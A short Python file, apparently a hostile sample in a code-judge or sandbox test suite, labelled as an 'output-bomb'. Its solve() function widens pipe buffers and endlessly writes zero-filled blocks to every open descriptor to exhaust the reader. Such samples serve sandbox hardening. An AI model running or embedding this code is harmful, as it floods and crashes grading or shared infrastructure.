"""Sends empty messages without end through a pipe it has widened: each is cheap to send
and costs its reader a copy."""
# kind: code
# class: output-bomb
# may: WRONG EXCEPTION CRASH INVALID TIMEOUT OUTPUT
import fcntl
import os
from contextlib import suppress


def solve(n):
    for descriptor in range(3, 256):
        with suppress(OSError):
            fcntl.fcntl(descriptor, fcntl.F_SETPIPE_SZ, 1_048_576)
    while True:
        for descriptor in range(4, 256):
            with suppress(OSError):
                os.write(descriptor, bytes(65_536))
